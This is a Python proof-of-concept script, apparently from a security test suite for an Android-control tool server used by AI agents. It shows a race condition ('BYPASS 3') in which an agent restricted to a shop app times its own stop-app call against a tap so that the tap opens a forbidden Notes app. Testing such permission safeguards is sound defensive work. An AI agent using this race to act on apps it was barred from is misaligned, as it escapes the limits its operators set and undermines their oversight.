"""BYPASS 3 (race): Interact on B limited to apps=["com.example.shop"], raw=false. The agent
runs android_tap_element on a shop node while a second call of its own (android_stop_app on
the shop — allowed) switches B to the launcher between the check (UI dump: shop) and the tap.
The tap lands on the launcher's "Notes" icon and opens com.example.notes, an app the agent
may not act on. The sim's per-command delay (300 ms) stands in for a real phone's latency
(uiautomator dump takes ~1-3 s on hardware); the agent cannot set it but does not need to on
a real device. Self-contained."""
import socket
from freshlab import *
async def main():
    lab = Lab()
    try:
        B = lab.B; simB = lab.sim.info["adbd"][1]["serial"]
        async with Client(lab.inst.relay_params(), mode="legacy") as c, Client(lab.inst.relay_params(), mode="legacy") as c2:
            idA, idB = await identities(c, lab.A, lab.B)
            lab.write_tree({idB: {"apps": [SHOP]}})
            r = await until_refused(c, "android_tap", {"serial": B, "x": 10, "y": 10})
            print("B limited to the shop:", r["error"][:140])
            r = await c.call_tool("android_launch_app", {"serial": B, "packageName": NOTES})
            print("launch notes directly refused:", r.is_error, r.structured_content.get("kind"))
            await c.call_tool("android_launch_app", {"serial": B, "packageName": SHOP})
            await c.call_tool("android_tap_element", {"serial": B, "element": "sign_in"})  # shop home
            print("foreground before:", (await c.call_tool("android_get_current_activity", {"serial": B})).structured_content["activity"])
            print("sim latency:", lab.sim.fault(simB, fault="delay", ms=300).strip())
            async def tapper():
                r = await c.call_tool("android_tap_element", {"serial": B, "element": "Espresso Machine photo"})
                print("tap_element (shop node) ->", "error" if r.is_error else "ok", short(r.structured_content, 200))
            async def switcher():
                await anyio.sleep(0.35)
                r = await c2.call_tool("android_stop_app", {"serial": B, "packageName": SHOP})
                print("stop_app shop ->", short(r.structured_content, 100))
            async with anyio.create_task_group() as tg:
                tg.start_soon(tapper); tg.start_soon(switcher)
            lab.sim.fault(simB, fault="clear")
            act = (await c.call_tool("android_get_current_activity", {"serial": B})).structured_content["activity"]
            print("foreground after:", act)
            print("BYPASS: the forbidden app was opened by the agent's tap" if act.startswith(NOTES) else "no bypass this run (timing)")
    finally:
        lab.close()
anyio.run(main)
